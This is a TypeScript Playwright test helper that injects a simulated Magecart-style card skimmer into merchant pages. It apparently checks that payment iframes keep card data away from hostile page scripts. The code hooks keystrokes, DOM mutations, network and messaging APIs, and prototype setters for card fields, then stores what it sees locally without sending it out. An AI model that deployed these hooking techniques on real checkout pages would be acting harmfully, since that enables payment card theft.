import type { BrowserContext, Page } from '@playwright/test';

/**
 * A simulated skimmer (Magecart-style), injected into the merchant page before any of its scripts: it tries every
 * way a hostile script on the page can take card data, and keeps everything it saw.
 * - document-level `keydown`/`keypress`/`keyup`/`input`/`change`/`paste` listeners (capture phase);
 * - a `MutationObserver` on the whole document (attributes, text, added nodes);
 * - wrapped `fetch`, `XMLHttpRequest` (`open`, `send`), `JSON.stringify`, `window.postMessage`,
 *   `MessagePort.postMessage`, `navigator.sendBeacon`, and a `message` listener (what frames send the page);
 * - once the page has loaded (after its scripts, the library's included): `XMLHttpRequest.prototype.send` and
 *   `setRequestHeader` wrapped again, and the `XMLHttpRequest` global replaced;
 * - setters on `Object.prototype.card_number` and `.cvv2`;
 * - every 50 ms: the values of every input of the page, and attempts to read each iframe's `contentDocument`
 *   (and `contentWindow.document`) and the inputs in it.
 * It runs only in the top document (not inside frames: there it would be the provider's own code).
 */
function skimmer(): void {
  if (window.top !== window) return;
  const seen: string[] = [];
  const stringify = JSON.stringify;
  (window as unknown as { __skimmed: string[] }).__skimmed = seen;
  const keep = (kind: string, v: unknown) => {
    try {
      seen.push(`${kind} ${typeof v === 'string' ? v : stringify(v)}`);
    } catch {
      seen.push(`${kind} ${String(v)}`);
    }
  };
  for (const type of ['keydown', 'keypress', 'keyup', 'input', 'change', 'paste']) {
    document.addEventListener(
      type,
      (e) => {
        const t = e.target as HTMLInputElement | null;
        keep(
          `event.${type}`,
          `${(e as KeyboardEvent).key ?? ''} ${t?.value ?? ''} ${(e as ClipboardEvent).clipboardData?.getData('text') ?? ''}`,
        );
      },
      true,
    );
  }
  addEventListener('message', (e) => keep('message', stringify(e.data)), true);
  new MutationObserver((list) => {
    for (const m of list) {
      if (m.type === 'attributes') keep('mutation.attr', `${m.attributeName}=${(m.target as Element).getAttribute(m.attributeName!)}`);
      else if (m.type === 'characterData') keep('mutation.text', m.target.textContent);
      else m.addedNodes.forEach((n) => keep('mutation.node', (n as Element).outerHTML ?? n.textContent));
    }
  }).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  const origFetch = window.fetch;
  window.fetch = function (input: RequestInfo | URL, init?: RequestInit) {
    keep('fetch', `${String(input)} ${String(init?.body ?? '')}`);
    return origFetch.call(this, input, init);
  };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, ...args: unknown[]) {
    keep('xhr.open', String(args[1]));
    return (open as (...a: unknown[]) => void).apply(this, args);
  } as typeof open;
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (this: XMLHttpRequest, body?: Document | XMLHttpRequestBodyInit | null) {
    keep('xhr.send', String(body));
    return send.call(this, body);
  };
  addEventListener('load', () => {
    const lateSend = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.send = function (this: XMLHttpRequest, body?: Document | XMLHttpRequestBodyInit | null) {
      keep('xhr.send (after load)', String(body));
      return lateSend.call(this, body);
    };
    const setHeader = XMLHttpRequest.prototype.setRequestHeader;
    XMLHttpRequest.prototype.setRequestHeader = function (this: XMLHttpRequest, name: string, value: string) {
      keep('xhr.setRequestHeader (after load)', `${name}: ${value}`);
      return setHeader.call(this, name, value);
    };
    const Xhr = XMLHttpRequest;
    window.XMLHttpRequest = function () {
      keep('new XMLHttpRequest (after load)', '');
      return new Xhr();
    } as unknown as typeof XMLHttpRequest;
  });
  JSON.stringify = function (this: unknown, ...args: Parameters<typeof stringify>) {
    const out = stringify.apply(this, args);
    seen.push(`JSON.stringify ${out}`);
    return out;
  } as typeof stringify;
  const pm = window.postMessage;
  window.postMessage = function (this: Window, ...args: unknown[]) {
    keep('postMessage', args[0]);
    return (pm as (...a: unknown[]) => void).apply(this, args);
  } as typeof pm;
  const portPm = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
    keep('port.postMessage', args[0]);
    return (portPm as (...a: unknown[]) => void).apply(this, args);
  } as typeof portPm;
  const beacon = navigator.sendBeacon;
  navigator.sendBeacon = function (url: string | URL, data?: BodyInit | null) {
    keep('beacon', `${url} ${String(data)}`);
    return beacon.call(navigator, url, data);
  };
  for (const prop of ['card_number', 'cvv2']) {
    Object.defineProperty(Object.prototype, prop, {
      configurable: true,
      set(v) {
        keep(`setter.${prop}`, v);
        Object.defineProperty(this, prop, { value: v, writable: true, enumerable: true, configurable: true });
      },
    });
  }
  setInterval(() => {
    document.querySelectorAll('input').forEach((i) => i.value && keep('input.value', i.value));
    document.querySelectorAll('iframe').forEach((f) => {
      try {
        const d = f.contentDocument ?? f.contentWindow?.document;
        if (d) {
          keep('frame.document', d.documentElement.outerHTML);
          d.querySelectorAll('input').forEach((i) => keep('frame.input', i.value));
        } else keep('frame.document', 'null');
      } catch (e) {
        keep('frame.blocked', (e as Error).name);
      }
    });
  }, 50);
}

/** Injects the skimmer into every page of `context` (before the page's scripts). */
export const injectSkimmer = async (context: BrowserContext): Promise<void> => void (await context.addInitScript(skimmer));

/** What the skimmer kept so far on `page`. */
export const skimmed = (page: Page): Promise<string[]> =>
  page.evaluate(() => [...((window as unknown as { __skimmed?: string[] }).__skimmed ?? [])]);
